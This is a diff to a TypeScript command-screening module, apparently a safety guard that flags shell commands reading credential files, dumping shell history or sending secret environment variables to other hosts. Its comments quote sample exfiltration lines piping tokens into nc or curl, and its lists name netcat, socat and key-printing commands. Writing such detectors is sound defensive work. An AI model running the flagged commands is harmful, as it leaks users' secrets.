@@ -7,12 +7,12 @@
 import { posix } from 'node:path';
 import { carriesFolder, readsPath } from '../path-rules';
 import type { Rule, RuleContext } from '../rules';
-import { ENV_DUMPERS, FOLDER_CARRIERS, NETWORK_SENDERS, SECRET_PRINTERS, UPLOAD_OPTIONS } from '../tables/secrets';
+import { ENV_DUMPERS, FOLDER_CARRIERS, HISTORY_PRINTERS, NETWORK_SENDERS, PLAIN_VARS, SECRET_PRINTERS, SECRET_VAR_NAMES, SECRET_VAR_PARTS, SECRET_VAR_SERVICES, UPLOAD_OPTIONS } from '../tables/secrets';
 import { operands, own } from './args';
 import { innerName } from './download';
 
 /** Programs that print or send the content of their file operands. */
-export const READERS = ['cat', 'tac', 'less', 'more', 'most', 'head', 'tail', 'bat', 'batcat', 'view', 'nl', 'strings', 'xxd', 'od', 'hexdump', 'hd', 'base64', 'base32', 'basenc', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'awk', 'gawk', 'mawk', 'sed', 'sort', 'uniq', 'cut', 'jq', 'yq', 'diff', 'cmp', 'vim', 'vi', 'nvim', 'nano', 'emacs', 'pico', 'ed', 'ex', 'code', 'open', 'xdg-open', 'gpg', 'openssl', 'ssh-keygen', 'zip', 'gzip', 'bzip2', 'xz', 'zstd', 'nc', 'ncat', 'netcat', 'socat', 'pbcopy', 'xclip', 'xsel', 'wl-copy', 'column', 'fold', 'paste', 'tr', 'wc', 'dd', 'iconv', 'dos2unix', 'split', 'csplit', 'look', 'comm', 'join', 'expand', 'unexpand', 'fmt', 'pr', 'rev', 'numfmt', 'mail', 'lp', 'lpr', 'age', 'envsubst', 'split', 'csplit'];
+export const READERS = ['sqlite3', 'cat', 'tac', 'less', 'more', 'most', 'head', 'tail', 'bat', 'batcat', 'view', 'nl', 'strings', 'xxd', 'od', 'hexdump', 'hd', 'base64', 'base32', 'basenc', 'grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'awk', 'gawk', 'mawk', 'sed', 'sort', 'uniq', 'cut', 'jq', 'yq', 'diff', 'cmp', 'vim', 'vi', 'nvim', 'nano', 'emacs', 'pico', 'ed', 'ex', 'code', 'open', 'xdg-open', 'gpg', 'openssl', 'ssh-keygen', 'zip', 'gzip', 'bzip2', 'xz', 'zstd', 'nc', 'ncat', 'netcat', 'socat', 'pbcopy', 'xclip', 'xsel', 'wl-copy', 'column', 'fold', 'paste', 'tr', 'dd', 'iconv', 'dos2unix', 'split', 'csplit', 'look', 'comm', 'join', 'expand', 'unexpand', 'fmt', 'pr', 'rev', 'numfmt', 'mail', 'lp', 'lpr', 'age', 'envsubst', 'split', 'csplit'];
 /** Readers whose first operand is a pattern or a script, not a file. */
 const PATTERN_FIRST = new Set(['grep', 'egrep', 'fgrep', 'rg', 'ag', 'ack', 'sed', 'awk', 'gawk', 'mawk', 'jq', 'yq', 'look']);
 /** Per reader, the options that take the next word as their value (so that word is not a file). */
@@ -38,7 +38,7 @@ const OPTIONS_WITH_VALUE: Record<string, string[]> = {
   nl: ['-b', '-h', '-f', '-v', '-i', '-l', '-s', '-w', '-n', '-d'],
   split: ['-l', '-b', '-C', '-n', '-a', '--additional-suffix'],
   gpg: ['-o', '--output', '-r', '--recipient', '-u', '--local-user', '--passphrase', '--homedir', '--default-key', '--trust-model', '--cipher-algo', '--digest-algo', '--compress-algo'],
-  openssl: ['-in', '-out', '-inkey', '-key', '-pass', '-passin', '-passout', '-cipher', '-md', '-k', '-K', '-iv', '-certfile', '-CAfile', '-name'],
+  openssl: ['-in', '-out', '-inkey', '-key', '-pass', '-passin', '-passout', '-cipher', '-md', '-k', '-K', '-iv', '-certfile', '-CAfile', '-name', '-keyout', '-certout', '-newkey', '-subj', '-days', '-config', '-extensions', '-reqexts', '-addext', '-extfile', '-CA', '-CAkey', '-CAserial', '-CApath', '-set_serial', '-signkey', '-outform', '-inform', '-keyform', '-connect', '-servername', '-cert', '-nameopt', '-certopt', '-sigopt', '-pkeyopt', '-rand', '-writerand', '-engine', '-provider', '-algorithm', '-macopt', '-mac', '-digest', '-sign', '-verify', '-signature', '-pubout', '-dates'].filter((o) => o !== '-pubout' && o !== '-dates'),
   nc: ['-p', '-s', '-w', '-i', '-q', '-e', '-c', '-x', '-X', '-P', '-T', '-V', '-I', '-O'],
   less: ['-b', '-h', '-j', '-k', '-o', '-O', '-p', '-P', '-t', '-T', '-x', '-y', '-z', '-#'],
   iconv: ['-f', '-t', '-o', '--from-code', '--to-code', '--output'],
@@ -55,6 +55,11 @@ const readers: Rule = (r) => {
     return;
   }
   if (r.name === 'mail') return;
+  if (r.name === 'sqlite3') {
+    const db = operands(r.argv, 1, ['-cmd', '-separator', '-newline', '-nullvalue', '-init', '-vfs', '-maxsize', '-mmap', '-pagecache', '-lookaside', '-heap'])[0];
+    if (db) readsPath(r.analyzer, db, r.cwd, r.segment);
+    return;
+  }
   const explicitPattern = r.argv.some((a) => a === '-e' || a === '-f' || a.startsWith('--regexp') || a === '--file');
   const withValue = (Object.prototype.hasOwnProperty.call(OPTIONS_WITH_VALUE, r.name) ? OPTIONS_WITH_VALUE[r.name] : undefined) ?? (r.name === 'egrep' || r.name === 'fgrep' ? OPTIONS_WITH_VALUE.grep : r.name === 'gawk' || r.name === 'mawk' ? OPTIONS_WITH_VALUE.awk : r.name === 'openssl' ? [] : COMMON_WITH_VALUE);
   const ops = operands(r.argv, 1, withValue);
@@ -62,7 +67,7 @@ const readers: Rule = (r) => {
   // A recursive search reads whole folders: a credential folder (or one holding it) is read whole.
   const recursive = r.name === 'rg' || r.name === 'ag' || r.name === 'ack' || (['grep', 'egrep', 'fgrep'].includes(r.name) && r.argv.some((a) => /^-[a-zA-Z]*[rR]/.test(a) || a === '--recursive' || a === '--dereference-recursive'));
   for (const f of files) (recursive ? carriesFolder : readsPath)(r.analyzer, f, r.cwd, r.segment);
-  if (r.name === 'openssl') for (let k = 1; k < r.argv.length - 1; k++) if (['-in', '-inkey', '-key', '-kfile', '-passin'].includes(r.argv[k])) readsPath(r.analyzer, r.argv[k + 1].replace(/^file:/, ''), r.cwd, r.segment);
+  if (r.name === 'openssl') for (let k = 1; k < r.argv.length - 1; k++) if (['-in', '-inkey', '-key', '-kfile', '-passin', '-CAkey', '-signkey', '-sign'].includes(r.argv[k])) readsPath(r.analyzer, r.argv[k + 1].replace(/^file:/, ''), r.cwd, r.segment);
   // Values of --file=X / -f X name files too.
   for (const a of r.argv) if (a.startsWith('--file=') || a.startsWith('--input=')) readsPath(r.analyzer, a.slice(a.indexOf('=') + 1), r.cwd, r.segment);
 };
@@ -151,6 +156,95 @@ function isEnvDump(words: string[]): boolean {
   return false;
 }
 
+/** The shell history printed (history, fc -l): every secret ever typed. */
+function isHistoryDump(words: string[]): boolean {
+  const n = words[0] ? posix.basename(words[0]) : '';
+  if (!HISTORY_PRINTERS.includes(n)) return false;
+  return n === 'history' ? words.slice(1).every((a) => /^\d+$/.test(a)) : words.includes('-l') || words.includes('-ln') || words.includes('-nl');
+}
+
+const SECRET_PART_SET = new Set(SECRET_VAR_PARTS);
+const PLAIN_SET = new Set(PLAIN_VARS);
+/** Whether an environment variable holds a secret (by name, or because a .env was loaded on the line). */
+export function isSecretVar(name: string, loaded: boolean): boolean {
+  if (PLAIN_SET.has(name) || name === 'PWD' || /^\d+$|^[@*#?$!-]$/.test(name)) return false;
+  if (SECRET_VAR_NAMES.test(name)) return true;
+  const parts = name.toUpperCase().split('_');
+  if (parts.some((p) => SECRET_PART_SET.has(p))) return true;
+  return loaded && /[A-Z]/.test(name) && name === name.toUpperCase();
+}
+
+/** Variables a word expands, from its source text ($NAME, ${NAME}, ${NAME:-x}). */
+function varsOf(raw: string | undefined): string[] {
+  if (!raw || !raw.includes('$')) return [];
+  const out: string[] = [];
+  const re = /(?<!\\)\$\{?([A-Za-z_][A-Za-z0-9_]*)/g;
+  let m: RegExpExecArray | null;
+  while ((m = re.exec(raw)) && out.length < 20) out.push(m[1]);
+  // Inside single quotes nothing expands.
+  return raw.startsWith("'") && raw.endsWith("'") ? [] : out;
+}
+
+/** The destination host of a network command (its first URL or host-like operand). */
+function destination(argv: string[]): string {
+  const url = argv.find((a) => /^[a-z][a-z0-9+.-]*:\/\//i.test(a));
+  if (url) return url.replace(/^[a-z][a-z0-9+.-]*:\/\/(?:[^@/]*@)?/i, '').split(/[/:?#]/)[0].toLowerCase();
+  return (argv.slice(1).find((a) => !a.startsWith('-') && /[.]/.test(a)) ?? '').toLowerCase();
+}
+
+/** A secret variable may go to its own service (GITHUB_TOKEN to api.github.com). */
+function ownService(name: string, host: string): boolean {
+  const first = name.toUpperCase().split('_')[0];
+  const words = own(SECRET_VAR_SERVICES, first);
+  return !!words && words.some((w) => host.includes(w));
+}
+
+/** Options whose value is sent as a credential or header to the destination (a token used, not leaked). */
+const HEADER_OPTIONS = new Set(['-H', '--header', '-u', '--user', '--oauth2-bearer', '--proxy-user', '-U', '--proxy-header', '--http-user', '--http-password', '--password', '--user-agent', '-A', '-e', '--referer', '-b', '--cookie', '--aws-sigv4']);
+const STDIN_READERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'mail', 'sendmail', 'mutt']);
+
+/** Secret environment variables sent to another host: in a URL, a body, or piped into a network client. */
+const secretVarsSent: Rule = (r) => {
+  const net = sendsToNetwork(r);
+  if (!net || net === 'ssh' || net === 'scp' || net === 'gh' || net === 'aws' || net === 'gsutil' || net === 'rclone') return;
+  const loaded = r.analyzer.secretsLoaded;
+  const host = destination(r.argv);
+  const leak = (name: string, how: string) => r.analyzer.hit('env-exfiltration', 'deny', r.segment, `sends the secret $${name} to ${host || net} ${how}`);
+  for (let k = 1; k < r.words.length; k++) {
+    const a = r.argv[k];
+    const prev = r.argv[k - 1];
+    if (HEADER_OPTIONS.has(prev) || /^--(?:header|user|oauth2-bearer|proxy-user|http-user|http-password|password|cookie)=/.test(a) || /^-[HuAb]./.test(a)) continue;
+    // The destination itself held in a variable (`curl -d x "$SLACK_WEBHOOK_URL"`): the secret is where it goes, not what goes.
+    if (!a.startsWith('-') && !/^(?:-d|--data\S*|--json|-F|--form|--url-query|-G)$/.test(prev) && /^["']?\$\{?[A-Za-z_]\w*\}?/.test(r.words[k].raw ?? '')) continue;
+    for (const v of varsOf(r.words[k].raw)) {
+      if (isSecretVar(v, loaded) && !ownService(v, host)) {
+        leak(v, 'in its URL or body');
+        return;
+      }
+    }
+  }
+  // Piped in: `echo $TOKEN | nc host 80`, `printenv AWS_SECRET_ACCESS_KEY | curl -d @- ...`, `... <<< "$TOKEN"`.
+  const readsStdin = STDIN_READERS.has(net) || r.argv.some((a, i) => a === '@-' || /^@-$|^-d@-$|=@-$/.test(a) || (a === '-' && ['-T', '--upload-file', '-d', '--data', '--data-binary'].includes(r.argv[i - 1] ?? '')) || (/^(?:-d|--data(?:-binary|-raw|-urlencode)?|--json|-F|--form)$/.test(r.argv[i - 1] ?? '') && /@-$/.test(a)));
+  if (!readsStdin) return;
+  const here = r.cmd.redirects.filter((x) => x.op === '<<<').flatMap((x) => varsOf(x.target.raw));
+  const upstream = r.cmd.stage > 0 ? r.pipe.filter((c) => c.pipeline === r.cmd.pipeline && c.stage < r.cmd.stage) : [];
+  for (const c of upstream) {
+    const w = c.words.map((x) => x.text);
+    const n = w[0] ? posix.basename(w[0]) : '';
+    if (isHistoryDump(w)) {
+      r.analyzer.hit('env-exfiltration', 'deny', r.segment, `sends the shell history (${n}) to ${host || net}`);
+      return;
+    }
+    if (n === 'printenv' && w.slice(1).some((x) => isSecretVar(x, loaded))) {
+      leak(w.slice(1).find((x) => isSecretVar(x, loaded))!, 'through a pipe');
+      return;
+    }
+    if (['echo', 'printf', 'print', 'cat', 'base64', 'xxd', 'tr', 'jq'].includes(n)) here.push(...c.words.slice(1).flatMap((x) => varsOf(x.raw)), ...c.redirects.filter((x) => x.op === '<<<').flatMap((x) => varsOf(x.target.raw)));
+  }
+  const v = here.find((x) => isSecretVar(x, loaded) && !ownService(x, host));
+  if (v) leak(v, 'through its input');
+};
+
 function sendsToNetwork(r: RuleContext): string | undefined {
   const { name } = innerName(r.words);
   if (!NETWORK_SENDERS.includes(name)) return undefined;
@@ -163,7 +257,7 @@ function sendsToNetwork(r: RuleContext): string | undefined {
 const envExfiltration: Rule = (r) => {
   const net = sendsToNetwork(r);
   if (net && r.cmd.stage > 0) {
-    const dumper = r.pipe.find((c) => c.stage < r.cmd.stage && isEnvDump(c.words.map((w) => w.text)));
+    const dumper = r.pipe.find((c) => c.stage < r.cmd.stage && (isEnvDump(c.words.map((w) => w.text)) || isHistoryDump(c.words.map((w) => w.text))));
     if (dumper) r.analyzer.hit('env-exfiltration', 'deny', r.segment, `sends every environment variable (${dumper.words[0].text}) to ${net}`);
   }
   if (net && r.words.some((w) => w.dynamic)) {
@@ -176,24 +270,31 @@ const envExfiltration: Rule = (r) => {
   if (r.cmd.redirects.some((rd) => /^\/dev\/(?:tcp|udp)\//.test(rd.target.text)) && READERS.includes(r.name)) for (const f of operands(r.argv)) readsPath(r.analyzer, f, r.cwd, r.segment);
 };
 
-/** A command that prints a private key or secret access key (tables/secrets.ts SECRET_PRINTERS). */
+/** A command that prints a private key, a token or a secret access key (tables/secrets.ts SECRET_PRINTERS). */
 const printsSecret: Rule = (r) => {
-  const spec = own(SECRET_PRINTERS, r.name);
-  if (!spec) return;
+  const specs = own(SECRET_PRINTERS, r.name);
+  if (!specs) return;
   // Inside $(...) the secret fills a variable (export AWS_SECRET_ACCESS_KEY=$(aws configure get ...)).
   if (/> (?:\$\(|`)/.test(r.via)) return;
   const args = r.argv.slice(1);
-  // gpg reads any unambiguous prefix of a long option (--export-secret-k).
-  const hit = spec.options?.find((o) => args.some((a) => a.length >= 16 && o.startsWith(a.split('=')[0])));
-  if (hit) {
-    r.analyzer.hit('read-secret-file', 'deny', r.segment, `${r.name} ${hit} prints private key material`);
-    return;
-  }
-  if (spec.sub && spec.key) {
+  for (const spec of specs) {
+    // gpg reads any unambiguous prefix of a long option (--export-secret-k).
+    const hit = spec.options?.find((o) => args.some((a) => a.length >= 16 && o.startsWith(a.split('=')[0])));
+    if (hit) {
+      r.analyzer.hit('read-secret-file', 'deny', r.segment, `${r.name} ${hit} prints private key material`);
+      return;
+    }
+    if (!spec.sub) continue;
     const ops = args.filter((a) => !a.startsWith('-'));
     const at = ops.findIndex((_, i) => spec.sub!.every((w, j) => ops[i + j] === w));
-    const key = at >= 0 ? ops[at + spec.sub.length] : undefined;
-    if (key !== undefined && spec.key.test(key)) r.analyzer.hit('read-secret-file', 'deny', r.segment, `${r.name} ${spec.sub.join(' ')} ${key} prints a secret credential`);
+    if (at < 0 || at > 2) continue;
+    const key = ops[at + spec.sub.length];
+    if (spec.key && (key === undefined || !spec.key.test(key))) continue;
+    if (spec.with && !args.some((a) => spec.with!.test(a))) continue;
+    // `-o name`: only the names are printed.
+    if (args.some((a, i) => ((a === '-o' || a === '--output') && args[i + 1] === 'name') || a === '-oname' || a === '--output=name')) continue;
+    r.analyzer.hit('read-secret-file', 'deny', r.segment, `${r.name} ${spec.sub.join(' ')}${spec.key ? ' ' + key : ''} prints a secret credential`);
+    return;
   }
 };
 
@@ -203,4 +304,4 @@ carriers.names = FOLDER_CARRIERS;
 uploads.names = Object.keys(UPLOAD_OPTIONS);
 publish.names = ['gh'];
 
-export const SECRET_RULES: Rule[] = [readers, printsSecret, carriers, uploads, publish, envExfiltration];
+export const SECRET_RULES: Rule[] = [readers, printsSecret, carriers, uploads, publish, envExfiltration, secretVarsSent];
